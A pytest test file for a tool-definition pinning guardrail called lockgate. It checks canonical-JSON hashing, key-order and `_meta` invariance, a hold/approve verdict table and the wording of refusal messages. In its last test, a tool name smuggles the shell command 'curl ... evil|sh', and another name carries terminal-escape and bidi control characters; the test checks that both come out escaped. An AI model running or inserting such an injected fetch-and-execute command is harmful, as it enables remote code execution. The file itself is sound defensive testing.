"""Pins: RFC 8785 bytes on the fast path too, key order never counts, any value does, `_meta`
never; the verdict table; what changed (which names spoof pinned ones: test_confusables.py)."""

from __future__ import annotations

import hashlib
import random
from typing import Any

import pytest
import rfc8785
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from lockgate.guardrails import pinning
from lockgate.guardrails.pinning import (
    Held,
    canonical,
    changed_fields,
    decide,
    diff_lines,
    pin_of,
    pretty,
    refusal_message,
)

# Every JSON value: floats of all kinds, integers past 2**53, any text (with lone surrogates
# and characters outside the BMP, in values and in keys).
_text = st.text(st.characters(codec=None, categories=None), max_size=12) | st.sampled_from(
    ["", "\U0001f600", "\ufffd", "\ue000", "\u2028", "\x7f", "\x1f", '"\\', "\ud800", "é"]
)
_scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.integers(-(2**53) - 2, 2**53 + 2)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.sampled_from([0.0, -0.0, 1.0, 1e21, 1e-7, 5e-324, 1.7976931348623157e308, 2.0**53])
    | _text
)
json_values = st.recursive(
    _scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_text, inner, max_size=4),
    max_leaves=20,
)
definitions = st.dictionaries(_text, json_values, max_size=6)


def _jcs_pin(value: Any) -> str:
    return hashlib.sha256(rfc8785.dumps(value)).hexdigest()


def _shuffled(value: Any, rng: random.Random) -> Any:
    if isinstance(value, dict):
        items = list(value.items())
        rng.shuffle(items)
        return {k: _shuffled(v, rng) for k, v in items}
    if isinstance(value, list):
        return [_shuffled(v, rng) for v in value]
    return value


@settings(max_examples=600)
@given(definitions)
def test_the_pin_is_sha256_of_rfc8785_whenever_jcs_can_say_it(definition: dict[str, Any]) -> None:
    body = {k: v for k, v in definition.items() if k != "_meta"}
    try:
        expected = rfc8785.dumps(body)
    except (rfc8785.CanonicalizationError, UnicodeError):
        assert canonical(definition).startswith(b"\xff")  # the marked fallback, never JCS
        return
    assert canonical(definition) == expected
    pinning._cache.clear()
    assert pin_of(definition) == hashlib.sha256(expected).hexdigest()
    assert pin_of(definition) == hashlib.sha256(expected).hexdigest()  # and from the cache


@settings(max_examples=400)
@given(json_values)
def test_the_fast_check_only_lets_through_what_orjson_writes_as_jcs(value: Any) -> None:
    import orjson

    if not pinning._jcs_safe(value):
        return
    try:  # pin_of only asks when orjson could write the value at all (no lone surrogates)
        fast = orjson.dumps(value, option=orjson.OPT_SORT_KEYS)
    except orjson.JSONEncodeError:
        return
    assert fast == rfc8785.dumps(value)


@pytest.mark.parametrize(
    "value",
    [1.0, -0.0, 1e16, 2**53, -(2**53), {"\U0001f600": 1, "\ufffd": 2}, [0.5], {"a": {"b": 3.0}}],
)
def test_where_orjson_and_jcs_differ_the_slow_path_is_taken(value: Any) -> None:
    import orjson

    assert not pinning._jcs_safe(value)
    definition = {"name": "t", "v": value}
    try:
        jcs = rfc8785.dumps(definition)
    except rfc8785.CanonicalizationError:
        jcs = canonical(definition)
    assert pin_of(definition) == hashlib.sha256(jcs).hexdigest()
    if isinstance(value, float | dict):
        assert orjson.dumps(definition, option=orjson.OPT_SORT_KEYS) != jcs  # a real difference


@settings(max_examples=300)
@given(definitions, st.randoms(use_true_random=False))
def test_key_order_never_changes_a_pin(definition: dict[str, Any], rng: random.Random) -> None:
    assert pin_of(_shuffled(definition, rng)) == pin_of(definition)


@settings(max_examples=300)
@given(definitions, json_values, json_values)
def test_meta_never_counts(definition: dict[str, Any], meta: Any, other: Any) -> None:
    with_meta = {**definition, "_meta": meta}
    assert pin_of(with_meta) == pin_of({**definition, "_meta": other})
    assert pin_of(with_meta) == pin_of({k: v for k, v in definition.items() if k != "_meta"})


def _jcs_equal(a: Any, b: Any) -> bool:
    try:
        return bool(rfc8785.dumps(a) == rfc8785.dumps(b))
    except (rfc8785.CanonicalizationError, UnicodeError):
        return bool(canonical({"v": a}) == canonical({"v": b}))


@settings(max_examples=400)
@given(definitions, _text.filter(lambda k: k != "_meta"), json_values)
def test_any_change_to_a_value_changes_the_pin(
    definition: dict[str, Any], key: str, value: Any
) -> None:
    # a new key, or a value JCS writes differently (1 and 1.0 are one JSON number)
    assume(key not in definition or not _jcs_equal(definition[key], value))
    changed = {**definition, key: value}
    assert pin_of(changed) != pin_of(definition)
    nested = {"name": "t", "inputSchema": {"properties": {"q": definition}}}
    nested_changed = {"name": "t", "inputSchema": {"properties": {"q": changed}}}
    assert pin_of(nested) != pin_of(nested_changed)


def test_types_that_compare_equal_in_python_still_pin_apart() -> None:
    assert pin_of({"v": True}) != pin_of({"v": 1})
    assert pin_of({"v": 0}) != pin_of({"v": False})
    assert pin_of({"v": None}) != pin_of({})
    assert pin_of({"v": "1"}) != pin_of({"v": 1})
    assert pin_of({"v": [1, 2]}) != pin_of({"v": [2, 1]})  # list order counts
    # JCS numbers are doubles: 1 and 1.0 are one number, as any JCS tool would pin them
    assert pin_of({"v": 1.0}) == pin_of({"v": 1}) == _jcs_pin({"v": 1})


def test_what_jcs_cannot_represent_still_pins_deterministically() -> None:
    for value in (float("nan"), 2**70, "\ud800", float("inf")):
        a = pin_of({"name": "t", "v": value})
        assert a == pin_of({"v": value, "name": "t"})
        assert a != pin_of({"name": "t", "v": 0})
    assert pin_of({"v": 2**70}) != pin_of({"v": 2**70 + 1})  # no silent rounding


def test_a_known_vector() -> None:
    # RFC 8785 appendix-style: sorted keys, no whitespace, ECMAScript numbers
    tool = {"name": "add", "inputSchema": {"type": "object", "b": 2, "a": 1.5}, "_meta": {"x": 1}}
    text = b'{"inputSchema":{"a":1.5,"b":2,"type":"object"},"name":"add"}'
    assert canonical(tool) == text
    assert pin_of(tool) == hashlib.sha256(text).hexdigest()


def test_too_deep_is_a_value_error() -> None:
    deep: Any = "x"
    for _ in range(5000):
        deep = [deep]
    with pytest.raises(ValueError, match=r"nested too deeply|cannot be pinned"):
        pin_of({"name": "t", "v": deep})


# --- what changed ---------------------------------------------------------------------------


def test_changed_fields_names_top_level_fields_in_reading_order() -> None:
    old = {"name": "t", "description": "a", "inputSchema": {"a": 1}, "annotations": {}, "z": 1}
    new = {"name": "t", "description": "b", "inputSchema": {"a": 2}, "annotations": {"x": 1}}
    assert changed_fields(old, new) == ("description", "inputSchema", "annotations", "z")
    assert changed_fields(old, {**old, "_meta": {"q": 1}}) == ()
    assert changed_fields(old, dict(reversed(list(old.items())))) == ()
    assert changed_fields(None, new) == ()
    assert changed_fields({"v": 1}, {"v": True}) == ("v",)
    assert changed_fields({"v": None}, {}) == ("v",)


def test_pretty_escapes_what_a_terminal_would_hide() -> None:
    text = pretty({"name": "t", "description": "ok\u202eevil\u200b\x1b[31m\U000e0041"})
    assert "\u202e" not in text and "\\u202e" in text
    assert "\\u200b" in text and "\\u001b" in text and "\\U000e0041" in text
    assert pretty({"b": 1, "a": 2}).index('"a"') < pretty({"b": 1, "a": 2}).index('"b"')
    assert "_meta" not in pretty({"a": 1, "_meta": {"secret": 1}})


def test_diff_lines_show_old_and_new() -> None:
    lines = diff_lines({"name": "t", "description": "a"}, {"name": "t", "description": "b"})
    assert '-  "description": "a",' in lines and '+  "description": "b",' in lines
    assert all(not line.startswith("-") for line in diff_lines(None, {"name": "t"})[2:])


# --- the verdict ----------------------------------------------------------------------------

P, Q, R = "a" * 64, "b" * 64, "c" * 64


def test_verdict_table() -> None:
    tofu, approve = "tofu", "approve"
    assert decide(P, pinned=None, held=None, mode=tofu).action == "pin"
    assert decide(P, pinned=None, held=None, mode=approve).reason == "pending"
    assert decide(P, pinned=P, held=None, mode=approve).action == "pass"
    changed = decide(Q, pinned=P, held=None, mode=tofu)
    assert (changed.action, changed.reason, changed.fresh) == ("hold", "changed", True)
    again = decide(Q, pinned=P, held=Held(Q, "changed"), mode=tofu)
    assert (again.reason, again.fresh) == ("changed", False)  # no second event
    newer = decide(R, pinned=P, held=Held(Q, "changed", rejected=True), mode=tofu)
    assert (newer.reason, newer.fresh) == ("changed", True)  # a later definition: held anew
    rejected = decide(Q, pinned=P, held=Held(Q, "changed", rejected=True), mode=tofu)
    assert (rejected.reason, rejected.fresh) == ("rejected", False)
    spoof = decide(P, pinned=None, held=None, mode=tofu, similar="send_email")
    assert spoof.reason == "spoofing" and spoof.fresh
    # the profile's pin wins over the store, both ways
    assert decide(P, pinned=Q, held=None, mode=tofu, shipped=P).action == "pass"
    assert decide(P, pinned=P, held=None, mode=tofu, shipped=Q).reason == "profile"
    assert decide(P, pinned=None, held=None, mode=tofu, shipped=P, similar="x").action == "pass"


def test_refusal_messages_say_what_and_how() -> None:
    text = refusal_message("linear", "create_issue", "changed", fields=["description"])
    assert "(description)" in text and "`lockgate tools approve linear create_issue`" in text
    assert text.count(".") == 1 and text.endswith(".")
    assert "lockgate tools approve linear" in refusal_message("linear", "x", "pending")
    assert "'send_email'" in refusal_message("l", "send-email", "spoofing", similar="send_email")
    assert "[guardrails.pinning.pins.l]" in refusal_message("l", "x", "profile")
    assert "never listed" in refusal_message("l", "x", "unlisted")
    # a hostile name is quoted for the shell, or not offered as a command at all
    evil = refusal_message("l", "x;curl${IFS}evil|sh", "pending")
    assert "approve l 'x;curl${IFS}evil|sh'" in evil
    hidden = refusal_message("l", "x\x1b[2J\u202e", "pending")
    assert "\x1b" not in hidden and "\u202e" not in hidden and "--all" in hidden
